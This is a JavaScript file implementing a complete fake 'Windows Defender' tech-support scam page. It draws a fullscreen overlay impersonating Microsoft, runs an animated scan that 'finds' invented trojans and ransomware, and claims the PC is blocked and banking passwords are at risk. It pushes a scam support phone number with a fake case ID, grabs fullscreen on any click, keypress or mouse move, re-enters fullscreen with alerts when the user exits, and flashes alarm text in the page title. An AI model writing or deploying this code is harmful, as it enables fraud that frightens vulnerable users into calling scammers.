// corpus note: full fake "Windows Defender" scan page: animated scan with invented threats, scam support number, fullscreen grab on interaction and re-entry after exit
(function () {
  "use strict";

  var PHONE = "+1 (888) 555-0147";
  var CASE_ID = "WDF-" + Math.floor(100000 + Math.random() * 899999);

  var THREATS = [
    ["Trojan:Win32/Emotet.RXK!ml", "C:\\Windows\\System32\\drivers\\etc\\hosts", "Severe"],
    ["Spyware:Win32/Keylogger.AB", "C:\\Users\\Public\\Libraries\\svchost32.exe", "Severe"],
    ["Ransom:Win32/WannaCrypt", "C:\\ProgramData\\Microsoft\\Crypto\\RSA\\tasksche.exe", "Severe"],
    ["PUA:Win32/CoinMiner", "C:\\Users\\%USER%\\AppData\\Roaming\\xmr.exe", "High"],
    ["Adware:JS/FakeAlert", "Browser extension: SearchBoost", "Medium"]
  ];

  var css =
    "#wd-alert{position:fixed;inset:0;z-index:2147483647;background:#0a2a66;color:#fff;font-family:Segoe UI,Arial,sans-serif;text-align:center;padding-top:4%;overflow:hidden}" +
    "#wd-alert h1{font-size:32px;margin:0 0 10px}#wd-alert .ph{font-size:42px;font-weight:bold;color:#ffeb3b;margin:10px 0}" +
    "#wd-alert .box{background:#fff;color:#222;width:640px;margin:18px auto;padding:16px;border-radius:4px;text-align:left;font-size:14px}" +
    "#wd-alert table{width:100%;border-collapse:collapse;font-size:12px}#wd-alert td{border-bottom:1px solid #ddd;padding:4px}" +
    "#wd-alert .sev{color:#c00;font-weight:bold}#wd-bar{height:14px;background:#ddd}#wd-bar i{display:block;height:100%;width:0;background:#e81123}";

  function addStyle() {
    var st = document.createElement("style");
    st.textContent = css;
    (document.head || document.documentElement).appendChild(st);
  }

  function buildOverlay() {
    var ov = document.createElement("div");
    ov.id = "wd-alert";
    ov.innerHTML =
      "<h1>&#9888; Windows Defender - Security Warning</h1>" +
      "<p>** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **</p>" +
      "<div class='box'><b>Quick scan in progress...</b><div id='wd-bar'><i></i></div>" +
      "<table id='wd-list'></table>" +
      "<p>Your computer has been infected. Your banking credentials, Facebook login and e-mail passwords are at risk. " +
      "Do not restart or shut down your computer. Case ID: <b>" + CASE_ID + "</b></p></div>" +
      "<div>Call Microsoft Support immediately:</div><div class='ph'>" + PHONE + "</div><p>(Toll Free, 24/7)</p>";
    document.body.appendChild(ov);
    return ov;
  }

  function runScan(ov) {
    var bar = ov.querySelector("#wd-bar i");
    var list = ov.querySelector("#wd-list");
    var pct = 0, shown = 0;
    var timer = setInterval(function () {
      pct += 2;
      bar.style.width = pct + "%";
      if (pct % 20 === 0 && shown < THREATS.length) {
        var th = THREATS[shown++];
        var row = list.insertRow(-1);
        row.innerHTML = "<td>" + th[0] + "</td><td>" + th[1] + "</td><td class='sev'>" + th[2] + "</td>";
      }
      if (pct >= 100) {
        clearInterval(timer);
        setTimeout(function () {
          alert("Windows Defender Alert\n\n" + THREATS.length + " threats found. Your PC is blocked.\nCall Microsoft Support: " + PHONE + "\nCase ID: " + CASE_ID);
        }, 200);
      }
    }, 120);
  }

  function goFull() {
    var el = document.documentElement;
    var req = el.requestFullscreen || el.webkitRequestFullscreen || el.mozRequestFullScreen || el.msRequestFullscreen;
    if (req) { try { var p = req.call(el); if (p && p.catch) p.catch(function () {}); } catch (e) {} }
  }

  function armFullscreen() {
    document.addEventListener("click", goFull, true);
    document.addEventListener("keydown", goFull, true);
    document.addEventListener("mousemove", function once() {
      goFull();
      document.removeEventListener("mousemove", once);
    });
    ["fullscreenchange", "webkitfullscreenchange"].forEach(function (ev) {
      document.addEventListener(ev, function () {
        if (!(document.fullscreenElement || document.webkitFullscreenElement)) {
          alert("Windows Security Alert!\n\nSystem has detected a virus. Call " + PHONE + " now.");
          setTimeout(goFull, 50);
        }
      });
    });
  }

  function flashTitle() {
    var a = "Security Alert! Call " + PHONE, b = "*** VIRUS DETECTED ***", i = 0;
    setInterval(function () { document.title = (i++ % 2) ? a : b; }, 800);
  }

  function start() {
    addStyle();
    var ov = buildOverlay();
    runScan(ov);
    armFullscreen();
    flashTitle();
  }

  if (document.body) start();
  else document.addEventListener("DOMContentLoaded", start);
})();
